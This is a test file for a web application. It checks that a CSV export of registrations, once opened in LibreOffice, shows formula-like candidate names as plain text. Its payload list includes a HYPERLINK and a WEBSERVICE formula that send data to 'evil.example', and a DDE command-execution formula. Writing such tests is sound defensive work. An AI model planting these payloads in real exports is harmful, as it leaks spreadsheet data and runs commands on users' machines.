import { execFileSync, spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { sql } from '#server/database.ts'
import { someConsultant } from '#tests/consultants.ts'
import { someRegistration } from '#tests/registrations/some-registration.ts'
import { testServer } from '#tests/test-server.ts'

const server = await testServer()
const FORMULAS = ['=HYPERLINK("https://evil.example?x="&A1,"me")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '=1+1', '=WEBSERVICE("https://evil.example")']

/** Opens a table as people do and writes it again, with what each cell then shows. */
function throughLibreOffice(table: string): readonly (readonly string[])[] {
  if (spawnSync('soffice', ['--version']).status !== 0) throw new Error('LibreOffice is not on this machine: install it with "apt-get install libreoffice-calc", and attack again.')
  const folder = mkdtempSync(join(tmpdir(), 'formulas-'))
  const run = (...words: readonly string[]) => execFileSync('soffice', [`-env:UserInstallation=file://${folder}/profile`, '--headless', ...words], { cwd: folder, stdio: 'ignore' })
  writeFileSync(join(folder, 'table.csv'), table)
  // Field and text delimiters, UTF-8, from the first line on; then as a sheet with its values worked out, and back.
  run('--infilter=CSV:44,34,76,1', '--convert-to', 'ods', 'table.csv')
  run('--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false', '--outdir', 'again', 'table.ods')
  const again = readFileSync(join(folder, 'again/table.csv'), 'utf8')
  rmSync(folder, { recursive: true })
  return parse(again, { bom: true, relax_column_count: true }) as string[][]
}

test('S-37 whoever opens the table of the desk in LibreOffice sees names that are formulas as text, and nothing is worked out', async () => {
  const desk = await someConsultant(server)
  const now = server.clock()
  for (const name of FORMULAS) {
    const { id } = await server.db.one<{ id: string }>(sql`insert into candidates (first_name, last_name, created_at, last_active_at) values (${name}, 'Okafor', ${now}, ${now}) returning id`)
    await someRegistration(server, id, { status: 'Submitted' })
  }
  const shown = throughLibreOffice(await (await desk.fetch('/API/v1/Registrations/Csv')).text()).flat()

  // What a sheet takes for an apostrophe in front of a text, it does not show.
  const asText = FORMULAS.map((name) => shown.some((cell) => [name, `'${name}`, name.trim(), `'${name.trim()}`].includes(cell)))
  expect(asText).toEqual(FORMULAS.map(() => true))
  expect(shown.filter((cell) => /^(me|#[A-Z?!/]+|Err:\d+)$/.test(cell.trim()))).toEqual([])
})
